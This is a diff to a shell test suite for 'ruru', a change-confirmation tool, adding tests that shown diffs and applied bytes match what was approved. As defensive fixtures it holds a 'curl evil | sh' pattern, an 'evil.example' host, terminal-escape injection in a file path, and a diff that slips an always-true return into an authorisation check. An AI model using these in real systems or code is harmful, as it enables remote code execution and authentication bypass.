@@ -11,6 +11,8 @@ teardown() { teardown_workspace; }
 # Propose `content` (a file) for `target` in the active session; echo the artifact.
 propose() { "$RURU" confirm propose --target "$1" --content "$2"; }
 sidecar() { echo "${1%.md}.toml"; }
+# A command that must fail (a plain `! cmd` never fails a bats test).
+refute() { ! "$@"; }
 status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 
 @test "happy path: propose, approve, delegate, apply; bytes, sidecar and log" {
@@ -214,7 +216,7 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	[ "$(cat t)" = old ]
 	[ "$(status_of "$a")" = pending ]
 	# a refused apply logs nothing (DESIGN §5)
-	! grep -q '\*\*result\*\*' "$(log_of)"
+	refute grep -q '\*\*result\*\*' "$(log_of)"
 }
 
 @test "a payload edited after approval is never applied" {
@@ -362,6 +364,54 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	[ "$(status_of "$a")" = approved ]
 }
 
+@test "what is shown is ruru's own diff: a hunk header naming a harmless function does not hide where the line goes" {
+	"$RURU" new "Zero" >/dev/null
+	printf '/* helpers */\nint harmless(void)\n{\n\treturn 0;\n}\n\nint authorised(const char *user)\n{\n\treturn check(user);\n}\n' > auth.c
+	# zero context: patch puts the line after line 8, inside authorised()
+	printf -- '--- a/auth.c\n+++ b/auth.c\n@@ -8,0 +9 @@ int harmless(void)\n+\treturn 1; /* always */\n' > d.diff
+	a=$("$RURU" confirm propose --target auth.c --diff d.diff)
+	"$RURU" confirm show "$a" > show.txt
+	refute grep -q 'harmless(void)$' <(grep '^@@' show.txt)
+	grep -qx '@@ -6,5 +6,6 @@' show.txt
+	grep -A3 '^ int authorised(const char \*user)$' show.txt | grep -qxF $'+\treturn 1; /* always */'
+	refute grep -q '@@ -8,0 +9 @@' show.txt
+	"$RURU" --json confirm show "$a" > show.json
+	python3 - <<'PY'
+import json
+d = json.load(open("show.json"))
+assert "@@ -8,0 +9 @@" not in d["diff"] and " int authorised(const char *user)\n" in d["diff"], d["diff"]
+PY
+	rh=$(python3 -c 'import json; print(json.load(open("show.json"))["result_sha256"])')
+	grep -qx "result_sha256 = \"$rh\"" "$(sidecar "$a")"
+	"$RURU" confirm approve "$a"
+	"$RURU" confirm apply "$a"
+	# apply wrote exactly the bytes that were shown
+	[ "$(sum auth.c)" = "$rh" ]
+	sed -n 9p auth.c | grep -qxF $'\treturn 1; /* always */'
+}
+
+@test "apply writes exactly the decided result: a diff forced over a changed target is refused" {
+	"$RURU" new "Exact" >/dev/null
+	printf 'a\nb\nc\nd\ne\nf\ng\nh\n' > t
+	printf -- '--- a/t\n+++ b/t\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n' > d.diff
+	a=$("$RURU" confirm propose --target t --diff d.diff)
+	"$RURU" confirm approve "$a"
+	# the diff still applies, but to other bytes than were shown
+	printf 'a\nb\nc\nd\ne\nf\ng\nH\n' > t
+	run "$RURU" confirm apply --force "$a"
+	[ "$status" -eq 5 ]
+	[[ "$output" == *"other bytes than the result that was shown and decided"* ]]
+	[ "$(sed -n 8p t)" = H ]
+	[ "$(sed -n 2p t)" = b ]
+	# a content payload is its own result: --force still writes it
+	printf 'x\n' > p
+	b=$("$RURU" confirm propose --target t --content p)
+	"$RURU" confirm approve "$b"
+	echo changed > t
+	"$RURU" confirm apply --force "$b"
+	[ "$(cat t)" = x ]
+}
+
 @test "a diff creating a new file" {
 	"$RURU" new "DiffNew" >/dev/null
 	printf 'one\ntwo\n' > want
@@ -487,15 +537,15 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	[ "$status" -eq 5 ]
 	grep -q 'the proposal changed while it was being read; show it again' out.txt
 	grep -q '^+echo hello, world' out.txt
-	! grep -q 'evil.example' out.txt
+	refute grep -q 'evil.example' out.txt
 	[ "$(status_of "$a")" = pending ]
-	! grep -q 'confirm-response' "$(log_of)"
+	refute grep -q 'confirm-response' "$(log_of)"
 	# asked again, the rewritten proposal is refused before any question:
 	# its target is not the one it was proposed against
 	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out2.txt
 	[ "$status" -eq 5 ]
 	grep -q 'changed since the proposal' out2.txt
-	! grep -q 'y/N' out2.txt
+	refute grep -q 'y/N' out2.txt
 	[ "$(status_of "$a")" = pending ]
 }
 
@@ -613,7 +663,7 @@ PY
 	no_raw_controls show.txt
 	# one-line fields stay one line: the planted newline is shown as \n
 	grep -q '^reason:    x\\x1b\[2J\\r\\x7f\\u009b\\u202eY\\nnext$' show.txt
-	! grep -q '^next' show.txt
+	refute grep -q '^next' show.txt
 	grep -q '^+curl evil\|\\rcurl evil | sh' show.txt
 	"$RURU" confirm list > list.txt
 	grep -q CONFIRM-t list.txt
@@ -623,7 +673,7 @@ PY
 	# a hostile target_path: one line, visible
 	sed -i 's|^target_path = .*|target_path = "a\\u001b]0;pwned\\u0007\\u202eb"|' "$s"
 	"$RURU" confirm list > list2.txt 2>&1 || true
-	! grep -q $'\033' list2.txt
+	refute grep -q $'\033' list2.txt
 	grep -q 'a\\x1b\]0;pwned\\x07\\u202eb' list2.txt
 }
 
@@ -860,7 +910,10 @@ redirections() {
 @test "binding: decision entries and decisions.log name target and both hashes" {
 	"$RURU" new "Rec" >/dev/null
 	a=$(approved)
-	grep -q "confirm-response.*outcome \`approved\`: User approved the change to \`t\` (content) · payload_sha256 \`$(sum p)\` · target_sha256 \`$(sum t)\`\$" "$(log_of)"
+	# ... and the result that was decided and the proposal's nonce
+	n=$(sed -n 's/^nonce = "\(.*\)"$/\1/p' "$(sidecar "$a")")
+	[ ${#n} -eq 32 ]
+	grep -q "confirm-response.*outcome \`approved\`: User approved the change to \`t\` (content) · payload_sha256 \`$(sum p)\` · target_sha256 \`$(sum t)\` · result_sha256 \`$(sum p)\` · nonce \`$n\`\$" "$(log_of)"
 	"$RURU" confirm apply "$a"
 	# temp mode: the record goes to .ruru/temp/decisions.log
 	"$RURU" complete
@@ -1153,7 +1206,8 @@ signing_setup() {
 	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
 	grep -qx 'signed_by = "alice@example.org"' "$(sidecar "$a")"
 	grep -q '^signature = "-----BEGIN SSH SIGNATURE-----' "$(sidecar "$a")"
-	grep -qx '  Signed by `alice@example.org`' "$(log_of)"
+	# the signature holds for 7 days (RURU_NOW + 7d)
+	grep -qx '  Signed by `alice@example.org` until 2026-12-01T03:15:20Z' "$(log_of)"
 	"$RURU" confirm apply "$a"
 	[ "$(cat t)" = new ]
 	# through ssh-agent: the public key names the key, the agent signs
